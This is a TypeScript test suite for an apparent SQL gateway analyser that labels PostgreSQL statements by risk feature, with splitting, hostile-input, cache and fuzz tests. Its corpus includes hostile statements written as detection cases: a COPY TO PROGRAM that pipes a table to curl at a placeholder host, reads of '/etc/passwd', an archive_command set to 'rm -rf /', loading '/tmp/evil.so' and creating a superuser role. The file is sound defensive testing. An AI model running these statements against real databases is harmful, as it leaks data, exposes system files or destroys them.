/**
 * Statement analysis against the real parser: a table-driven corpus (each feature with a benign twin
 * that must not have it), statement splitting, hostile input, and the verdict cache.
 */
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { initSqlParser, analyse, analyseOne, analyseBytes, createSqlAnalyser } from './analyse.ts';
import { STATEMENT_FEATURES, type StatementFeature } from './features.ts';
import { LruCache } from './cache.ts';
import { SQL_ERRORS } from './errors.ts';
import { sqlParserBroken } from './parser.ts';

before(async () => {
  await initSqlParser();
});

interface Case {
  sql: string;
  kind: string;
  /** Every one of these must be present. */
  has: StatementFeature[];
  /** None of these may be present. */
  not?: StatementFeature[];
  relations?: string[];
  functions?: string[];
}

const CORPUS: Case[] = [
  // read
  { sql: 'SELECT * FROM users', kind: 'SelectStmt', has: ['read'], not: ['write', 'function_call'], relations: ['users'] },
  { sql: 'TABLE public.orders', kind: 'SelectStmt', has: ['read'], relations: ['public.orders'] },
  { sql: 'VALUES (1, 2)', kind: 'SelectStmt', has: ['read'] },
  { sql: 'SHOW search_path', kind: 'VariableShowStmt', has: ['read'], not: ['session_setting'] },
  { sql: 'SELECT lower(name), count(*) FROM users GROUP BY 1', kind: 'SelectStmt', has: ['read'], not: ['function_call', 'dangerous_function'], functions: ['lower', 'count'] },
  { sql: 'SELECT 1 FROM db.sch.tbl', kind: 'SelectStmt', has: ['read'], relations: ['db.sch.tbl'] },
  // write, dml_without_where and twins
  { sql: 'INSERT INTO t (a) VALUES (1)', kind: 'InsertStmt', has: ['write'], not: ['read', 'dml_without_where'], relations: ['t'] },
  { sql: 'INSERT INTO t SELECT * FROM s', kind: 'InsertStmt', has: ['write'], relations: ['t', 's'] },
  { sql: 'UPDATE t SET a = 1', kind: 'UpdateStmt', has: ['write', 'dml_without_where'] },
  { sql: 'UPDATE t SET a = 1 WHERE id = 7', kind: 'UpdateStmt', has: ['write'], not: ['dml_without_where'] },
  { sql: 'DELETE FROM t', kind: 'DeleteStmt', has: ['write', 'dml_without_where'], relations: ['t'] },
  { sql: 'DELETE FROM t WHERE id=1', kind: 'DeleteStmt', has: ['write'], not: ['dml_without_where'] },
  { sql: 'DELETE FROM t WHERE true', kind: 'DeleteStmt', has: ['dml_without_where'] },
  { sql: 'DELETE FROM t WHERE 1 = 1', kind: 'DeleteStmt', has: ['dml_without_where'] },
  { sql: 'UPDATE t SET a = 2 WHERE CURRENT OF c', kind: 'UpdateStmt', has: ['write'], not: ['dml_without_where'] },
  { sql: 'DELETE FROM t USING u WHERE t.id = u.id', kind: 'DeleteStmt', has: ['write'], not: ['dml_without_where'], relations: ['t', 'u'] },
  { sql: 'WITH gone AS (DELETE FROM audit RETURNING *) SELECT count(*) FROM gone', kind: 'SelectStmt', has: ['read', 'write', 'dml_without_where'] },
  { sql: 'WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM x', kind: 'SelectStmt', has: ['write'], not: ['dml_without_where'] },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', kind: 'MergeStmt', has: ['write', 'dml_without_where'] },
  { sql: 'MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET a = 1', kind: 'MergeStmt', has: ['write', 'dml_without_where'] },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)', kind: 'MergeStmt', has: ['write'], not: ['dml_without_where'] },
  { sql: 'EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t', kind: 'ExplainStmt', has: ['write', 'dml_without_where'] },
  { sql: "SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: 'PREPARE wipe AS DELETE FROM t', kind: 'PrepareStmt', has: ['prepared', 'write', 'dml_without_where'] },
  // ddl
  { sql: 'CREATE TABLE t (id int)', kind: 'CreateStmt', has: ['ddl'], not: ['drop', 'alter', 'write'] },
  { sql: 'DROP TABLE users', kind: 'DropStmt', has: ['ddl', 'drop'], relations: ['users'] },
  { sql: 'DROP TABLE IF EXISTS a.b, c CASCADE', kind: 'DropStmt', has: ['ddl', 'drop'], relations: ['a.b', 'c'] },
  { sql: 'DROP DATABASE prod', kind: 'DropdbStmt', has: ['ddl', 'drop'] },
  { sql: 'DROP FUNCTION f(int)', kind: 'DropStmt', has: ['drop'], relations: [] },
  { sql: 'TRUNCATE orders', kind: 'TruncateStmt', has: ['ddl', 'truncate'], relations: ['orders'] },
  { sql: 'ALTER TABLE t ADD COLUMN b int', kind: 'AlterTableStmt', has: ['ddl', 'alter'], not: ['drop'], relations: ['t'] },
  { sql: 'ALTER TABLE t RENAME TO u', kind: 'RenameStmt', has: ['ddl', 'alter'] },
  { sql: 'CREATE INDEX i ON t (a)', kind: 'IndexStmt', has: ['ddl'] },
  { sql: "COMMENT ON TABLE t IS 'x'", kind: 'CommentStmt', has: ['ddl'] },
  { sql: 'CREATE TABLE t2 AS SELECT * FROM t', kind: 'CreateTableAsStmt', has: ['ddl', 'write'] },
  { sql: 'SELECT * INTO t3 FROM t', kind: 'SelectStmt', has: ['ddl', 'write', 'read'] },
  { sql: 'CREATE TABLE k (id int DEFAULT pg_terminate_backend(1))', kind: 'CreateStmt', has: ['ddl', 'dangerous_function'] },
  { sql: 'CREATE VIEW v AS SELECT dblink_exec(\'x\', \'y\')', kind: 'ViewStmt', has: ['ddl', 'dangerous_function', 'function_call'] },
  // grant
  { sql: 'GRANT SELECT ON users TO analyst', kind: 'GrantStmt', has: ['grant'], relations: ['users'] },
  { sql: 'REVOKE ALL ON ALL TABLES IN SCHEMA public FROM PUBLIC', kind: 'GrantStmt', has: ['grant'] },
  { sql: 'GRANT admin TO mallory', kind: 'GrantRoleStmt', has: ['grant'] },
  { sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst', kind: 'AlterDefaultPrivilegesStmt', has: ['grant'] },
  // role_change and twins
  { sql: 'SET ROLE postgres', kind: 'VariableSetStmt', has: ['role_change'], not: ['session_setting'] },
  { sql: 'SET LOCAL ROLE postgres', kind: 'VariableSetStmt', has: ['role_change'] },
  { sql: 'SET SESSION AUTHORIZATION postgres', kind: 'VariableSetStmt', has: ['role_change'] },
  { sql: 'RESET ROLE', kind: 'VariableSetStmt', has: ['role_change'] },
  { sql: 'RESET ALL', kind: 'VariableSetStmt', has: ['role_change', 'session_setting'] },
  { sql: "SELECT set_config('role', 'postgres', false)", kind: 'SelectStmt', has: ['role_change'], not: ['session_setting', 'function_call'] },
  { sql: "SELECT set_config('ROLE'::text, 'postgres', false)", kind: 'SelectStmt', has: ['role_change'] },
  { sql: 'SELECT set_config(name, setting, false) FROM settings', kind: 'SelectStmt', has: ['role_change', 'dangerous_function'] },
  { sql: "SELECT pg_catalog.set_config('search_path', '', false)", kind: 'SelectStmt', has: ['session_setting'], not: ['role_change', 'dangerous_function'] },
  { sql: 'DISCARD ALL', kind: 'DiscardStmt', has: ['role_change', 'session_setting'] },
  // session_setting
  { sql: 'SET search_path TO app, public', kind: 'VariableSetStmt', has: ['session_setting'], not: ['role_change'] },
  { sql: 'SET statement_timeout = 0', kind: 'VariableSetStmt', has: ['session_setting'] },
  { sql: 'RESET work_mem', kind: 'VariableSetStmt', has: ['session_setting'], not: ['role_change'] },
  // role_admin
  { sql: "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'", kind: 'CreateRoleStmt', has: ['role_admin', 'ddl'] },
  { sql: 'CREATE USER bob', kind: 'CreateRoleStmt', has: ['role_admin'] },
  { sql: 'ALTER ROLE bob SUPERUSER', kind: 'AlterRoleStmt', has: ['role_admin', 'alter'] },
  { sql: 'ALTER USER bob SET search_path = x', kind: 'AlterRoleSetStmt', has: ['role_admin'], not: ['role_change', 'session_setting'] },
  { sql: 'DROP ROLE bob', kind: 'DropRoleStmt', has: ['role_admin', 'drop'] },
  { sql: 'ALTER ROLE bob RENAME TO rob', kind: 'RenameStmt', has: ['role_admin', 'alter'] },
  // copy
  { sql: "COPY t TO PROGRAM 'curl -d @- http://x'", kind: 'CopyStmt', has: ['copy_program', 'read'], not: ['copy_file', 'copy_out'] },
  { sql: "COPY t FROM PROGRAM 'id'", kind: 'CopyStmt', has: ['copy_program', 'write'] },
  { sql: "COPY t TO '/tmp/t.csv'", kind: 'CopyStmt', has: ['copy_file', 'read'], not: ['copy_program'] },
  { sql: "COPY t FROM '/etc/passwd'", kind: 'CopyStmt', has: ['copy_file', 'write'] },
  { sql: 'COPY t FROM STDIN', kind: 'CopyStmt', has: ['copy_in', 'write'], not: ['copy_file', 'copy_program'] },
  { sql: 'COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)', kind: 'CopyStmt', has: ['copy_out', 'read'], not: ['copy_in', 'write'], relations: ['users'] },
  // alter_system
  { sql: "ALTER SYSTEM SET archive_command = 'rm -rf /'", kind: 'AlterSystemStmt', has: ['alter_system'] },
  { sql: 'ALTER SYSTEM RESET ALL', kind: 'AlterSystemStmt', has: ['alter_system'], not: ['role_change'] },
  // dangerous functions, nested anywhere, and twins
  { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', kind: 'SelectStmt', has: ['dangerous_function'], not: ['function_call'] },
  { sql: "SELECT 'pg_terminate_backend(1)'", kind: 'SelectStmt', has: ['read'], not: ['dangerous_function'], functions: [] },
  { sql: 'SELECT "pg_cancel_backend"(42)', kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT lo_import('/etc/passwd')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT lo_export(16384, '/tmp/x')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT pg_read_file('/etc/passwd')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT pg_read_binary_file('x')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT * FROM pg_ls_dir('.')", kind: 'SelectStmt', has: ['dangerous_function'], functions: ['pg_ls_dir'] },
  { sql: "SELECT pg_stat_file('postgresql.conf')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: 'SELECT pg_reload_conf()', kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: 'SELECT pg_rotate_logfile()', kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT * FROM ext.dblink('host=x', 'select 1') AS r(a int)", kind: 'SelectStmt', has: ['dangerous_function', 'function_call'], functions: ['ext.dblink'] },
  { sql: "SELECT dblink_connect('c', 'host=x')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: 'SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)', kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: 'WITH k AS (SELECT pg_cancel_backend(pid) FROM pg_stat_activity) SELECT * FROM k', kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: 'UPDATE t SET a = (SELECT pg_reload_conf()) WHERE id = 1', kind: 'UpdateStmt', has: ['dangerous_function', 'write'], not: ['dml_without_where'] },
  { sql: 'SELECT * FROM t, LATERAL pg_terminate_backend(t.pid)', kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "SELECT query_to_xml('delete from t', true, true, '')", kind: 'SelectStmt', has: ['dangerous_function'] },
  { sql: "LOAD '/tmp/evil.so'", kind: 'LoadStmt', has: ['dangerous_function'] },
  // EXPLAIN: only ANALYZE runs the query
  { sql: 'EXPLAIN DELETE FROM t', kind: 'ExplainStmt', has: ['read'], not: ['write', 'dml_without_where'], relations: ['t'] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', kind: 'ExplainStmt', has: ['read', 'write', 'dml_without_where'] },
  { sql: 'EXPLAIN (ANALYZE off) DELETE FROM t', kind: 'ExplainStmt', has: ['read'], not: ['write'] },
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) SELECT pg_terminate_backend(1)', kind: 'ExplainStmt', has: ['dangerous_function'] },
  { sql: 'EXPLAIN SELECT pg_terminate_backend(1)', kind: 'ExplainStmt', has: ['read'], not: ['dangerous_function'], functions: ['pg_terminate_backend'] },
  // do, call, function_call and twins
  { sql: "DO $$ BEGIN PERFORM pg_sleep(1); END $$", kind: 'DoStmt', has: ['do_block'] },
  { sql: "DO LANGUAGE plpgsql 'BEGIN NULL; END'", kind: 'DoStmt', has: ['do_block'] },
  { sql: 'CALL app.refresh_all(1)', kind: 'CallStmt', has: ['function_call'], functions: ['app.refresh_all'] },
  { sql: 'SELECT app.rotate_keys()', kind: 'SelectStmt', has: ['function_call', 'read'], not: ['dangerous_function'], functions: ['app.rotate_keys'] },
  { sql: 'SELECT my_func(1)', kind: 'SelectStmt', has: ['function_call'] },
  { sql: 'SELECT pg_catalog.now(), upper(x), extract(year from d) FROM t', kind: 'SelectStmt', has: ['read'], not: ['function_call'] },
  { sql: 'SELECT public.lower(x) FROM t', kind: 'SelectStmt', has: ['function_call'] },
  { sql: 'SELECT "LOWER"(x) FROM t', kind: 'SelectStmt', has: ['function_call'], functions: ['lower'] },
  { sql: 'SELECT "pg_catalog.lower"(x) FROM t', kind: 'SelectStmt', has: ['function_call'] },
  { sql: 'SELECT "PG_TERMINATE_BACKEND"(1)', kind: 'SelectStmt', has: ['dangerous_function'] },
  // transaction control
  { sql: 'BEGIN', kind: 'TransactionStmt', has: ['transaction_control'] },
  { sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE', kind: 'TransactionStmt', has: ['transaction_control'] },
  { sql: 'COMMIT', kind: 'TransactionStmt', has: ['transaction_control'] },
  { sql: 'SAVEPOINT s1', kind: 'TransactionStmt', has: ['transaction_control'] },
  { sql: "PREPARE TRANSACTION 'tx1'", kind: 'TransactionStmt', has: ['transaction_control'], not: ['prepared'] },
  // prepared, cursor, listen/notify
  { sql: 'PREPARE q (int) AS SELECT * FROM t WHERE id = $1', kind: 'PrepareStmt', has: ['prepared', 'read'] },
  { sql: 'EXECUTE q(1)', kind: 'ExecuteStmt', has: ['prepared'] },
  { sql: 'DEALLOCATE ALL', kind: 'DeallocateStmt', has: ['prepared'] },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM users', kind: 'DeclareCursorStmt', has: ['cursor'], relations: ['users'] },
  { sql: 'FETCH 10 FROM c', kind: 'FetchStmt', has: ['cursor'] },
  { sql: 'MOVE LAST IN c', kind: 'FetchStmt', has: ['cursor'] },
  { sql: 'CLOSE c', kind: 'ClosePortalStmt', has: ['cursor'] },
  { sql: 'LISTEN chan', kind: 'ListenStmt', has: ['listen_notify'] },
  { sql: "NOTIFY chan, 'x'", kind: 'NotifyStmt', has: ['listen_notify'] },
  { sql: 'UNLISTEN *', kind: 'UnlistenStmt', has: ['listen_notify'] },
  // maintenance: no feature
  { sql: 'VACUUM ANALYZE t', kind: 'VacuumStmt', has: [], not: ['write', 'ddl', 'read'] },
];

test('corpus: at least 60 statements and every feature has a positive case', () => {
  assert.ok(CORPUS.length >= 60, `${CORPUS.length} cases`);
  const covered = new Set(CORPUS.flatMap((c) => c.has));
  covered.add('unparsable'); // covered by its own tests below
  const missing = STATEMENT_FEATURES.filter((f) => !covered.has(f));
  assert.deepEqual(missing, []);
});

for (const c of CORPUS) {
  test(`corpus: ${c.sql}`, () => {
    const all = analyse(c.sql);
    assert.equal(all.length, 1);
    const a = all[0]!;
    assert.equal(a.kind, c.kind);
    assert.equal(a.text, c.sql);
    for (const f of c.has) assert.ok(a.features.includes(f), `missing ${f}: ${JSON.stringify(a.features)}`);
    for (const f of c.not ?? []) assert.ok(!a.features.includes(f), `unexpected ${f}: ${JSON.stringify(a.features)}`);
    assert.ok(!a.features.includes('unparsable'));
    if (c.relations) assert.deepEqual([...a.relations].sort(), [...c.relations].sort());
    if (c.functions) assert.deepEqual([...a.functions].sort(), [...c.functions].sort());
    for (const f of a.features) assert.ok((STATEMENT_FEATURES as readonly string[]).includes(f), f);
  });
}

test('split: semicolons inside strings, dollar quotes, quoted identifiers and comments do not split', () => {
  const sql = [
    "SELECT 'a;b' AS \"x;y\";",
    '/* ; DROP TABLE t; */ SELECT $tag$ ; DELETE FROM t; $tag$;',
    '-- DELETE FROM t;',
    "INSERT INTO t VALUES (E'\\';');",
    'DO $$ BEGIN EXECUTE \'TRUNCATE x\'; END $$;',
    'DELETE FROM t',
  ].join('\n');
  const all = analyse(sql);
  assert.deepEqual(
    all.map((a) => a.kind),
    ['SelectStmt', 'SelectStmt', 'InsertStmt', 'DoStmt', 'DeleteStmt'],
  );
  assert.equal(all[0]!.text, "SELECT 'a;b' AS \"x;y\"");
  assert.equal(all[1]!.text, 'SELECT $tag$ ; DELETE FROM t; $tag$');
  assert.ok(!all[1]!.features.includes('write'));
  // The parser starts a statement at its first token: a comment before it is not part of it.
  assert.equal(all[2]!.text, "INSERT INTO t VALUES (E'\\';')");
  assert.equal(all[3]!.text, "DO $$ BEGIN EXECUTE 'TRUNCATE x'; END $$");
  assert.ok(!all[3]!.features.includes('truncate'), 'the DO body is opaque text, not a TRUNCATE');
  assert.deepEqual(all[4]!.features, ['write', 'dml_without_where']);
});

test('split: empty statements, trailing semicolons, non-ASCII text keeps character offsets right', () => {
  assert.deepEqual(analyse(''), []);
  assert.deepEqual(analyse('  ;; -- nothing\n ; /* */'), []);
  const all = analyse("SELECT 'ünïcødé 😀'; ;; DELETE FROM \"tä\" WHERE x = 'é'; SELECT 2;");
  assert.deepEqual(all.map((a) => a.text), ["SELECT 'ünïcødé 😀'", "DELETE FROM \"tä\" WHERE x = 'é'", 'SELECT 2']);
  assert.deepEqual(all[1]!.relations, ['tä']);
});

test('unparsable: one analysis with the parser message, a code and a 1-based position; nothing runs', () => {
  const all = analyse('SELECT 1; DELETE FROM t; SELEC 2');
  assert.equal(all.length, 1, 'PostgreSQL parses the whole string first: one error rejects every statement');
  const a = all[0]!;
  assert.equal(a.kind, 'unparsable');
  assert.deepEqual(a.features, ['unparsable']);
  assert.match(a.error!, /syntax error at or near "SELEC"/);
  assert.equal(a.code, 'GW_ERR_SQL_UNPARSABLE');
  assert.equal(a.position, 26);
  assert.equal(analyse("SELECT 'é', 'ü' FRO x")[0]!.position, 21, 'character, not byte, position');
  assert.equal(analyse("SELECT '😀' FRO x")[0]!.position, 16, 'code points, as PostgreSQL counts them');
  assert.equal(analyse("SELECT 'unterminated")[0]!.code, 'GW_ERR_SQL_UNPARSABLE');
});

test('analyseOne: one statement, empty query, several statements refused', () => {
  const a = analyseOne('DELETE FROM t WHERE id = $1;');
  assert.equal(a.kind, 'DeleteStmt');
  assert.ok(!a.features.includes('dml_without_where'));
  const empty = analyseOne('  ');
  assert.equal(empty.kind, 'EmptyQuery');
  assert.deepEqual(empty.features, []);
  const two = analyseOne('SELECT 1 FROM a; DROP TABLE b');
  assert.equal(two.kind, 'unparsable');
  assert.deepEqual(two.features, ['unparsable']);
  assert.equal(two.code, 'GW_ERR_SQL_MULTIPLE_STATEMENTS');
  assert.match(two.error!, /multiple commands/);
  assert.deepEqual([...two.relations].sort(), ['a', 'b']);
  assert.equal(analyseOne('SELEC').code, 'GW_ERR_SQL_UNPARSABLE');
});

test('hostile: oversized text is refused before parsing, with the limit in the message', () => {
  const big = 'SELECT ' + "'x', ".repeat(50_000) + '1';
  const a = analyse(big, { max_statement_bytes: 64 * 1024 });
  assert.equal(a.length, 1);
  assert.equal(a[0]!.code, 'GW_ERR_SQL_TOO_LARGE');
  assert.deepEqual(a[0]!.features, ['unparsable']);
  assert.match(a[0]!.error!, /exceeds the 65536-byte/);
  // The limit counts UTF-8 bytes, not characters.
  assert.equal(analyse("SELECT '" + 'é'.repeat(40) + "'", { max_statement_bytes: 60 })[0]!.code, 'GW_ERR_SQL_TOO_LARGE');
  assert.equal(analyse("SELECT '" + 'e'.repeat(40) + "'", { max_statement_bytes: 60 })[0]!.kind, 'SelectStmt');
  assert.equal(analyseBytes(Buffer.from(big), { max_statement_bytes: 1000 })[0]!.code, 'GW_ERR_SQL_TOO_LARGE');
});

test('hostile: deep nesting is reported, never thrown, and the parser keeps working', () => {
  const shapes = [
    'SELECT ' + '('.repeat(50_000) + '1' + ')'.repeat(50_000),
    'SELECT ' + '(SELECT '.repeat(5_000) + '1' + ')'.repeat(5_000),
    'SELECT ' + Array(20_000).fill('1').join('+'),
    'SELECT ' + 'ARRAY['.repeat(20_000) + '1' + ']'.repeat(20_000),
    'SELECT * FROM t WHERE ' + 'NOT '.repeat(50_000) + 'true',
  ];
  for (const sql of shapes) {
    const all = analyse(sql);
    assert.ok(all.length >= 1);
    for (const a of all) {
      if (a.kind === 'unparsable') {
        assert.ok(a.code === 'GW_ERR_SQL_TOO_COMPLEX' || a.code === 'GW_ERR_SQL_UNPARSABLE', `${a.code}: ${a.error}`);
        assert.ok(a.error && a.error.length > 0);
      }
    }
  }
  assert.equal(sqlParserBroken(), undefined);
  assert.deepEqual(analyse('DELETE FROM t WHERE id = 1')[0]!.features, ['write']);
});

test('hostile: invalid UTF-8, lone surrogates and NUL characters are invalid encoding', () => {
  const bad = analyseBytes(Uint8Array.from([0x53, 0x45, 0x4c, 0x45, 0x43, 0x54, 0x20, 0x27, 0xc3, 0x28, 0x27]));
  assert.equal(bad[0]!.code, 'GW_ERR_SQL_INVALID_ENCODING');
  assert.deepEqual(bad[0]!.features, ['unparsable']);
  assert.equal(analyseBytes(Buffer.from("SELECT 'é'"))[0]!.kind, 'SelectStmt');
  assert.equal(analyse("SELECT '\uD800'")[0]!.code, 'GW_ERR_SQL_INVALID_ENCODING');
  assert.equal(analyse("SELECT '\uDC00x'")[0]!.code, 'GW_ERR_SQL_INVALID_ENCODING');
  assert.equal(analyse("SELECT '😀'")[0]!.kind, 'SelectStmt', 'a surrogate pair is fine');
  // The parser would stop at the NUL and pass the DROP unseen.
  const nul = analyse('SELECT 1\0; DROP TABLE users');
  assert.equal(nul[0]!.code, 'GW_ERR_SQL_INVALID_ENCODING');
});

test('analyses are frozen (they are shared through the cache)', () => {
  const a = analyse('SELECT * FROM t')[0]!;
  assert.throws(() => (a.features as string[]).push('write'));
  assert.throws(() => {
    (a as { kind: string }).kind = 'x';
  });
});

test('every error code is documented: well-formed names, descriptions, SQLSTATEs', () => {
  for (const [code, info] of Object.entries(SQL_ERRORS)) {
    assert.match(code, /^GW_ERR_SQL_[A-Z_]+$/);
    assert.ok(info.description.length > 20);
    if ('sqlstate' in info) assert.match(info.sqlstate, /^[0-9A-Z]{5}$/);
  }
});

test('cache: the second analysis of a text is a hit and returns the same object', () => {
  const analyser = createSqlAnalyser();
  const sql = 'SELECT * FROM users WHERE id = $1';
  const first = analyser.analyse(sql);
  assert.deepEqual(analyser.stats(), { ...analyser.stats(), hits: 0, misses: 1, entries: 1 });
  const second = analyser.analyse(sql);
  assert.equal(second, first, 'same frozen result, not re-parsed');
  assert.equal(analyser.stats().hits, 1);
  assert.equal(analyser.analyseOne(sql), first[0]);
  assert.equal(analyser.stats().hits, 2);
  assert.equal(analyser.analyseOne('SELECT 1; SELECT 2').code, 'GW_ERR_SQL_MULTIPLE_STATEMENTS');
  // Failures are verdicts too: cached, so a client repeating garbage costs one parse.
  analyser.analyse('SELEC 1');
  analyser.analyse('SELEC 1');
  assert.equal(analyser.stats().hits, 3);
});

test('cache: entry bound and byte bound are respected, least recently used goes first', () => {
  // Distinct texts by name (texts that differ only in numbers share an entry: normalize.ts).
  const analyser = createSqlAnalyser({ cache_max_entries: 3 });
  for (const n of ['a', 'b', 'c']) analyser.analyse(`SELECT ${n}`);
  analyser.analyse('SELECT a'); // touch: b is now the oldest
  analyser.analyse('SELECT d');
  const s = analyser.stats();
  assert.equal(s.entries, 3);
  assert.equal(s.evictions, 1);
  analyser.analyse('SELECT a');
  assert.equal(analyser.stats().hits, s.hits + 1, 'SELECT a survived');
  analyser.analyse('SELECT b');
  assert.equal(analyser.stats().misses, s.misses + 1, 'SELECT b was evicted');

  const lru = new LruCache<string>({ max_entries: 1000, max_bytes: 1000, sizeOf: (v) => v.length * 2 });
  for (let i = 0; i < 100; i++) lru.set(`key-${i}`, 'v'.repeat(20));
  assert.ok(lru.stats().bytes <= 1000, `${lru.stats().bytes} bytes`);
  assert.ok(lru.size > 0 && lru.size < 100);
  assert.ok(lru.has('key-99') && !lru.has('key-0'));

  const small = createSqlAnalyser({ cache_max_key_bytes: 100 });
  const long = 'SELECT ' + '1, '.repeat(100) + '1';
  small.analyse(long);
  small.analyse(long);
  assert.equal(small.stats().entries, 0, 'a text over the key limit is never stored');
  assert.equal(small.stats().uncacheable, 2);
});

test('fuzz: mutated statements never throw, and every split piece re-analyses to the same verdict', () => {
  let seed = 0x5eed;
  const rand = (n: number) => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed % n;
  };
  const noise = [';', "'", '"', '$$', '$x$', '--', '/*', '*/', '(', ')', '\n', 'é', '😀', '\\', 'E\'', ' ', ',', 'DELETE FROM t', '\uD800'];
  let parsedPieces = 0;
  for (let i = 0; i < 1500; i++) {
    let sql = CORPUS[rand(CORPUS.length)]!.sql + '; ' + CORPUS[rand(CORPUS.length)]!.sql;
    for (let m = rand(4); m > 0; m--) {
      const at = rand(sql.length + 1);
      sql = rand(3) === 0 ? sql.slice(0, at) + sql.slice(at + rand(5)) : sql.slice(0, at) + noise[rand(noise.length)] + sql.slice(at);
    }
    const all = analyse(sql);
    for (const a of all) {
      assert.ok(Object.isFrozen(a) && a.features.every((f) => (STATEMENT_FEATURES as readonly string[]).includes(f)));
      if (a.kind === 'unparsable') {
        assert.deepEqual(a.features, ['unparsable']);
        assert.ok(a.code !== undefined && a.error !== undefined);
        continue;
      }
      const again = analyse(a.text);
      assert.equal(again.length, 1, `piece ${JSON.stringify(a.text)} of ${JSON.stringify(sql)}`);
      assert.equal(again[0]!.kind, a.kind);
      assert.deepEqual([...again[0]!.features].sort(), [...a.features].sort());
      parsedPieces++;
    }
  }
  assert.ok(parsedPieces > 1000, `${parsedPieces} pieces re-checked`);
  assert.equal(sqlParserBroken(), undefined);
});
